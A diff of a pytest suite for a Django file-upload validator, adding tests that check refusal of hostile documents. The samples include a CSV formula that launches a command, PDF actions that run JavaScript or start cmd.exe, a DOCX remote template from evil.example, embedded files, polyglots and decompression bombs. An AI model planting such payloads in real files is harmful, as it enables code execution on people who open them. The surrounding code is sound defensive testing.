@@ -2,14 +2,17 @@
 
 import io
 import struct
+import time
 import zipfile
 import zlib
+from contextlib import suppress
 from pathlib import Path
 
 import pytest
 from django.core.exceptions import ValidationError
 from PIL import Image
 
+from authorities.uploads import pdfs
 from authorities.uploads.kinds import CSV, DOCX, JPEG, ODT, PDF, TXT, XLSX
 from authorities.uploads.validation import read_kind
 
@@ -69,6 +72,12 @@ def object_stream(text):
     return (
         b"2 0 obj\n<< /Type /ObjStm >>\nstream\n" + packed_text + b"\nendstream\nendobj\n3 0 obj <<"
     )
+
+
+def attached(text):
+    whole = (WRITERS / "summary.pdf").read_bytes()
+    assert b"/Type /Catalog" in whole
+    return whole.replace(b"/Type /Catalog", b"/Type /Catalog " + text)
 
 
 def huge_png():
@@ -133,15 +142,7 @@ REFUSED = [
     (odt(("Basic/Standard/Module1.xml", "<x/>")), "There are macros"),
     (docx(("word/embeddings/tool.exe", b"x")), "There is a program"),
     (docx(("word/media/image1.png", b"MZ\x90")), "There is a program"),
-    (
-        docx(
-            (
-                "word/embeddings/o.bin",
-                ole("Ole10Native"),
-            )
-        ),
-        "There is a program",
-    ),
+    (docx(("word/embeddings/o.bin", ole("Ole10Native"))), "embedded in this document"),
     (docx(("a.bin", b"Rar!\x1a\x07\x00")), "archive inside"),
     (packed(("a.bin", b"7z\xbc\xaf")), "This is an archive of files"),
     (docx(("word/more.gz", b"\x1f\x8b\x08")), "archive inside"),
@@ -154,8 +155,8 @@ REFUSED = [
         docx(
             (
                 "word/_rels/settings.xml.rels",
-                '<Relationship Type="http://x/attachedTemplate" '
-                'Target="https://evil.example/t.dotm" TargetMode="External"/>',
+                '<r><Relationship Type="http://x/attachedTemplate" '
+                'Target="https://evil.example/t.dotm" TargetMode="External"/></r>',
             )
         ),
         "starts or fetches",
@@ -171,6 +172,10 @@ REFUSED = [
     (pdf_with(b"/OpenAction << /S /J#61vaScript /JS (1) >>"), "a script in this PDF"),
     (pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "starts or fetches"),
     (pdf_with(b"/X 2 0 R >>\nendobj\n" + object_stream(b"<< /S /JavaScript >>")), "a script in"),
+    (attached(b"/X << /EF << /F 2 0 R >> >>"), "Another file is attached"),
+    (pdf_with(b"/A << /S /URI /URI (javascript:alert(1)) >>"), "starts or fetches"),
+    (docx(("word/x.xml", "<x/>".encode("utf-16"))), "damaged"),
+    (picture("JPEG") + A_PDF, "two things at once"),
     (A_PDF.replace(b"%%EOF", b""), "damaged"),
     ((WRITERS / "summary-with-password.pdf").read_bytes(), "protected by a password"),
     (
@@ -206,6 +211,39 @@ def test_what_is_not_taken_is_told_by_its_own_sentence(content, sentence):
 )
 def test_a_text_is_no_page_and_no_program(content, name):
     assert "not a plain text" in refusal(content, name)
+
+
+def test_a_table_that_starts_a_program_is_refused():
+    assert "not a plain text" in refusal(b"Name,Cost\nA,=cmd|' /C calc'!A0\n", "table.csv")
+
+
+def test_a_stream_that_unpacks_too_large_is_refused(monkeypatch):
+    monkeypatch.setattr(pdfs, "MOST_IN_STREAM", 10_000_000)
+    zeros = zlib.compress(bytes(10_500_000))
+    stream = b"2 0 obj\n<< /Filter /FlateDecode >>\nstream\n" + zeros + b"\nendstream\nendobj\n"
+    assert "unpacks to far more" in refusal(A_PDF[:9] + stream + A_PDF[9:])
+    assert read_kind(A_PDF[:9] + stream.replace(zeros, zeros[:500]) + A_PDF[9:], "a.pdf") == PDF
+
+
+def test_an_archive_with_the_long_frame_is_taken():
+    content = docx()
+    at = content.rfind(b"PK\x05\x06")
+    entries, size, offset = struct.unpack("<HII", content[at + 10 : at + 20])
+    long_end = struct.pack(
+        "<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, size, offset
+    )
+    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, at, 1)
+    assert read_kind(content[:at] + long_end + locator + content[at:], "a.docx") == DOCX
+
+
+@pytest.mark.parametrize(
+    "piece", [b"/S%", b"stream\n", b"/ObjStm stream\n", b"/JavaScript ", b"MZ", b"/S" + b" " * 50]
+)
+def test_a_file_that_is_made_to_be_searched_for_long_is_not(piece):
+    began = time.monotonic()
+    with suppress(ValidationError):
+        read_kind(A_PDF[:9] + piece * (4_000_000 // len(piece)) + A_PDF[9:], "a.pdf")
+    assert time.monotonic() - began < 10
 
 
 def test_an_archive_that_lies_about_a_size_is_damaged():
